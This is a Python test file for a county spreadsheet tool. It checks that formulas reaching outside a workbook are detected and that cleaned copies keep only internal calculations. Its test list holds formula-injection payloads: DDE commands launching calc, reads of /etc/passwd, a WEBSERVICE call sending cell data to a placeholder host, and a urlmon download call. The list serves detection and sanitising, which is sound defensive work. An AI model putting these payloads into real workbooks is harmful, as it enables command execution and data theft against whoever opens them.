"""What a county is handed back reaches nothing outside itself; what it calculates stays."""

import io
import re
import shutil
import subprocess
import zipfile

import openpyxl
import pytest
import xlsxwriter

from county.slip.mark_workbook import marked_copy
from county.traced_copy import traced_copy
from county.within_itself import reaches_out
from tests.unit.format_writers import repacked
from tests.unit.test_correction_slip import HEAD, finding

pytestmark = pytest.mark.filterwarnings("ignore:Unknown worksheet reference")

OUT = (
    "=[1]Sheet1!A1",
    "='[1]去年 汇总'!$A$1",
    "='C:\\temp\\[去年.xlsx]汇总'!A1",
    "=[1]!金额",
    "=SUM(1,[2]表!B2:B9)",
    "=cmd|'/C calc'!A0",
    '=DDE("soffice","/etc/passwd","A1")',
    '=HYPERLINK("http://example.invalid","点击")',
    '=hyperlink ("http://example.invalid","点击")',
    '=_xlfn.WEBSERVICE("http://example.invalid/"&B4)',
    '=_xlfn.IMAGE("http://example.invalid/a.png")',
    "=INDIRECT(\"'file:///etc/passwd'#$Sheet1.A1\")",
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.invalid","a",0,0)',
    "='a\"'!A1+cmd|'/C calc'!A0+\"\"",
)
WITHIN = (
    "=SUM(K5:K9)",
    "='乡镇街道商会名册'!K5*2",
    '=IF(A1<>"",VLOOKUP(A1,名册!A:C,3,FALSE),0)',
    "=SUM(表1[会员总数])",
    "=IMPORTANT+1",
    '=ROUND(A1/B1,2)&"%"',
    '=SUMPRODUCT((A1:A9="是")*(B1:B9>0))',
)


@pytest.mark.parametrize("formula", OUT)
def test_a_formula_that_asks_another_file_a_program_or_the_network_is_known(formula):
    assert reaches_out(formula)


@pytest.mark.parametrize("formula", WITHIN)
def test_a_formula_within_the_workbook_is_none_of_those(formula):
    assert not reaches_out(formula)


LINK = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook
xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1">
<sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>"""
ADDED = {
    "xl/externalLinks/externalLink1.xml": LINK,
    "xl/externalLinks/_rels/externalLink1.xml.rels": b"""<Relationships
xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"
Target="file:///secret/book.xlsx" TargetMode="External"/></Relationships>""",
    "xl/vbaProject.bin": b"a macro",
    "xl/embeddings/oleObject1.bin": b"an object",
}


def reaching() -> bytes:
    """A workbook with every way out there is, and one sum."""
    held = io.BytesIO()
    with xlsxwriter.Workbook(held, {"in_memory": True}) as book:
        sheet = book.add_worksheet("名册")
        for row, formula in enumerate(OUT):
            sheet.write_formula(row, 0, formula, None, f"=值{row}")
        sheet.write_formula("B1", "=SUM(C1:C2)", None, 5)
        sheet.write_array_formula("B2:B2", "{=[1]S!A1}", None, 7)
        sheet.write_url("B3", "http://example.invalid/x", string="网址")
        sheet.write_url("B4", "internal:'名册'!A1", string="本表")
        sheet.write("G5", "x")
        sheet.data_validation("D1", {"validate": "list", "source": "=[1]S!$A$1:$A$9"})
        sheet.data_validation("D2", {"validate": "list", "source": ["是", "否"]})
        sheet.conditional_format("E1", {"type": "formula", "criteria": "=[1]S!$A$1>0"})
        sheet.conditional_format("E2", {"type": "formula", "criteria": "=$C$1>0"})
        book.define_name("outside", "=[1]S!$A$1")
        book.define_name("inside", "='名册'!$C$1")
        chart = book.add_chart({"type": "line"})
        chart.add_series({"values": "=[1]S!$A$1:$A$9"})
        sheet.insert_chart("H1", chart)
    return with_parts(held.getvalue())


def with_parts(content: bytes) -> bytes:
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def change(name: str, part: bytes) -> bytes:
        if name == "xl/_rels/workbook.xml.rels":
            added = f'<Relationship Id="rId99" Type="{relation}/externalLink" '
            added += 'Target="externalLinks/externalLink1.xml"/></Relationships>'
            return part.replace(b"</Relationships>", added.encode())
        if name == "xl/workbook.xml":
            added = b'</sheets><externalReferences><externalReference r:id="rId99"/>'
            return part.replace(b"</sheets>", added + b"</externalReferences>")
        if name == "[Content_Types].xml":
            kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
            added = b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="'
            return part.replace(b"</Types>", added + kind + b'"/></Types>')
        return part

    packed = io.BytesIO(repacked(content, change))
    with zipfile.ZipFile(packed, "a") as package:
        for name, part in ADDED.items():
            package.writestr(name, part)
    return packed.getvalue()


COPIES = {
    "slip": lambda content: marked_copy(content, HEAD, [finding()]),
    "trace": lambda content: traced_copy(content, {("名册", "G5"): ["商会数"]}),
}


@pytest.mark.parametrize("kind", COPIES)
def test_a_copy_reaches_nothing_and_keeps_what_it_calculates(kind):
    copy = COPIES[kind](reaching())
    with zipfile.ZipFile(io.BytesIO(copy)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    assert [name for name in parts if re.search("external|vba|embed|chart", name, re.I)] == []
    for name, part in parts.items():
        assert b'TargetMode="External"' not in part, name
        assert b"example.invalid" not in part and b"[1]" not in part, name
    book = openpyxl.load_workbook(io.BytesIO(copy))
    sheet = book["名册"]
    formulas = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == ["=SUM(C1:C2)"]
    shown = [sheet.cell(row + 1, 1) for row in range(len(OUT))]
    assert [cell.value for cell in shown] == [f"=值{row}" for row in range(len(OUT))]
    assert {cell.data_type for cell in shown} == {"s"}
    assert (sheet["B2"].value, sheet["B3"].value) == (7, "网址")
    assert sheet["B4"].hyperlink.location == "'名册'!A1"
    assert list(book.defined_names) == ["inside"]
    assert [str(rule.sqref) for rule in sheet.data_validations.dataValidation] == ["D2"]
    assert [str(area.sqref) for area in sheet.conditional_formatting] == ["E2"]


UTF_8 = "csv:Text - txt - csv (StarCalc):44,34,76"


@pytest.mark.long
@pytest.mark.skipif(shutil.which("soffice") is None, reason="no LibreOffice")
def test_a_copy_opens_and_shows_what_the_county_saw(tmp_path):
    (tmp_path / "copy.xlsx").write_bytes(COPIES["trace"](reaching()))
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    subprocess.run(
        ["soffice", profile, "--headless", "--convert-to", UTF_8, "copy.xlsx"],
        cwd=tmp_path,
        check=True,
        capture_output=True,
        timeout=120,
    )
    rows = (tmp_path / "copy.csv").read_text(encoding="utf-8").splitlines()
    assert rows[1].startswith("=值1,7,")
    assert rows[2].startswith("=值2,网址,")
